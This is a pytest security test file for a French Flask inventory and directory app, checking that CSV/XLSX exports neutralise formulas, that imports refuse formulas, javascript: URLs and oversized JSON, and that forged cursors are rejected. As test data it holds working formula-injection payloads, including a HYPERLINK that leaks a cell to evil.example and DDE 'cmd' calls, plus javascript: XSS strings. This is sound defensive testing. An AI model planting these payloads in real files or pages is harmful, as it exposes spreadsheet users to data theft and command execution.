"""Exports and imports that cannot hurt (issue 19): no formula comes out of a CSV or XLSX
we write, a formula that comes in is reported, URL fields take http(s) only, and hostile
JSON or list cursors are refused in French, never a 500."""

from __future__ import annotations

import base64
import csv
import io
import json
from decimal import Decimal

import pytest
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from app.authz.policy import OrgKind, Role
from app.core.spreadsheet import TRIGGERS, needs_quote, safe_cell
from app.directory import imports, mednum
from app.directory.models import Place
from app.extensions import db
from app.inventory import device_records, importing, stock
from app.inventory.lifecycle import DeviceType
from app.tariffs import editing, transfer
from app.training import catalogue
from tests import factories
from tests.conftest import login_client
from tests.integration.test_directory_open_data import _example_with
from tests.integration.test_tariffs_catalogue import box
from tests.integration.test_training_support import make_place

HOSTILE = {
    "brand": '=HYPERLINK("http://evil.example/?leak="&A2,"Voir")',
    "model": "+cmd|' /C calc'!A0",
    "serial": "-2+3+cmd|' /C calc'!A0",
    "cpu": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _cells_are_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not (cell.startswith(TRIGGERS) and needs_quote(cell)), cell


def test_the_helper_quotes_text_only() -> None:
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("\tx") == "'\tx"
    assert safe_cell("\r=1") == "'\r=1" and safe_cell("@A1") == "'@A1"
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-5.5")) == Decimal("-5.5")
    assert safe_cell("-4.48") == "-4.48" and safe_cell("+33 6 12 34 56 78") == "+33 6 12 34 56 78"
    assert safe_cell("Lenovo") == "Lenovo" and safe_cell(None) is None


def test_device_exports_carry_no_formula(client: FlaskClient) -> None:
    org = factories.create_org(slug="atelier-formules")
    device = device_records.create_device(
        org.id, device_records.DeviceInput(DeviceType.LAPTOP, ram_gb=8, **HOSTILE)
    )
    stored = [getattr(device, name) for name in HOSTILE]  # as the device keeps them
    assert all(text.startswith(("=", "+", "-", "@")) for text in stored)
    login_client(client, factories.create_user(Role.FRONT_DESK, org))

    response = client.get("/inventaire/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            values[cell.value] = cell
    for text in stored:
        assert "'" + text in values  # shown as text, with the quote
    assert values[8].data_type == "n"  # numbers stay numbers

    for url, separator in (
        ("/inventaire/export.csv", ";"),
        ("/inventaire/export.snipe-it.csv", ","),
    ):
        body = client.get(url).get_data().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(body), delimiter=separator))
        _cells_are_safe(rows)
        cells = {c for r in rows for c in r}
        assert all("'" + text in cells for text in stored[:3]), url  # Snipe-IT: no CPU


def test_a_tariff_export_carries_no_formula() -> None:
    editing.create_tariff(box(name='=HYPERLINK("http://evil.example")', notes="-1+cmd|x"))
    body = transfer.export_csv(editing.list_tariffs()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    _cells_are_safe(rows)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert '\'=HYPERLINK("http://evil.example")' in row.values()
    assert "15,99" in row.values()  # the price unchanged


def test_a_training_place_is_published_without_formula_nor_script_link(
    client: FlaskClient,
) -> None:
    place = make_place(name='=HYPERLINK("http://evil.example")', siret="43493312300029")
    login_client(client, factories.create_user(Role.TRAINER, place))
    response = client.post(
        "/formation/mon-lieu/fiche",
        data={"website": "javascript:alert(1)", "booking_url": "data:text/html,x"},
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "commençant par http:// ou https://" in page
    db.session.expire_all()
    assert catalogue.place_for(place).website == ""
    response = client.post("/formation/mon-lieu/fiche", data={"website": "https://lequai.fr/"})
    assert response.status_code == 302
    db.session.expire_all()
    assert catalogue.place_for(place).website == "https://lequai.fr/"

    text, left_out = imports.mednum_export()
    assert not left_out, left_out
    rows = list(csv.reader(io.StringIO(text)))
    _cells_are_safe(rows)
    assert '\'=HYPERLINK("http://evil.example")' in {c for r in rows for c in r}


def test_imports_refuse_script_links_on_the_row() -> None:
    report = imports.import_mednum(
        _example_with(site_web="javascript:alert(1)", prise_rdv="javascript:alert(2)")
    )
    assert report.written
    assert {(2, "site_web"), (2, "prise_rdv")} <= {(p.row, p.field) for p in report.warnings}
    place = db.session.scalar(select(Place).where(Place.source_id == "structure-1"))
    assert place is not None and place.website == "" and place.booking_url == ""
    assert "javascript" not in imports.mednum_export()[0]

    assert mednum.field_problem("site_web", "https://a.fr/|javascript:x")
    refused = transfer.import_csv(
        b"fournisseur;offre;type;prix_mensuel;source\nSFR;Forfait;mobile;10,00;javascript:x\n"
    )
    assert refused.errors and refused.errors[0][0] == 2
    assert "adresse web" in refused.errors[0][1]


def test_a_formula_in_an_imported_workbook_is_reported_on_its_row() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["Type", "Marque", "N° de série"])
    sheet.append(["Portable", "Lenovo", "S1"])
    sheet.append(["Portable", "=1+1", "S2"])
    out = io.BytesIO()
    book.save(out)
    parsed = importing.parse(out.getvalue(), "stock.xlsx")
    assert not parsed.ok
    assert [(p.row, p.column) for p in parsed.problems] == [(3, "Marque")]
    assert "Formule refusée en ligne 3, colonne B" in parsed.problems[0].message


def test_deep_json_is_refused_in_french(client: FlaskClient) -> None:
    admin = factories.create_user(Role.ADMIN, factories.create_org(OrgKind.COORDINATOR))
    login_client(client, admin)
    for body in ("[" * 200_000 + "]" * 200_000, "[" * 100 + "]" * 100, "{pas du json"):
        response = client.post(
            "/ou-aller/donnees-ouvertes/import",
            data={"kind": "data_inclusion", "file": (io.BytesIO(body.encode()), "d.json")},
            content_type="multipart/form-data",
        )
        page = response.get_data(as_text=True)
        assert response.status_code == 422
        assert "trop profondément" in page or "JSON lisible" in page
    assert db.session.query(Place).count() == 0


def _cursor(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "cursor",
    [
        "!!!",
        _cursor('[{"a": 1}, "x"]'),
        _cursor("[null, 99999999999999999999999]"),
        _cursor("[null, 1e400]"),
        _cursor("[null, true]"),
        _cursor("[1, 2, 3]"),
        _cursor("[" * 50_000 + "]" * 50_000),
        "A" * 5000,
    ],
)
def test_a_crafted_cursor_is_refused_in_french(client: FlaskClient, cursor: str) -> None:
    org = factories.create_org(slug="atelier-curseur")
    device_records.create_device(org.id, device_records.DeviceInput(DeviceType.LAPTOP, serial="C1"))
    login_client(client, factories.create_user(Role.FRONT_DESK, org))
    for sort in ("recent", "model", "state"):
        response = client.get("/inventaire/", query_string={"apres": cursor, "tri": sort})
        assert response.status_code == 400, sort
        assert "pas valide : revenez à la première page" in response.get_data(as_text=True)


def test_a_real_cursor_still_pages(client: FlaskClient) -> None:
    org = factories.create_org(slug="atelier-pages")
    for n in range(3):
        device_records.create_device(
            org.id, device_records.DeviceInput(DeviceType.LAPTOP, serial=f"P{n}")
        )
    for sort in ("recent", "model", "state"):
        flt = stock.DeviceFilter(sort=sort)
        first = stock.list_devices(org.id, flt, per_page=2)
        assert first.next_cursor
        second = stock.list_devices(org.id, flt, cursor=first.next_cursor, per_page=2)
        assert len(second.devices) == 1
    assert json.loads(base64.urlsafe_b64decode(first.next_cursor + "=="))[1] > 0
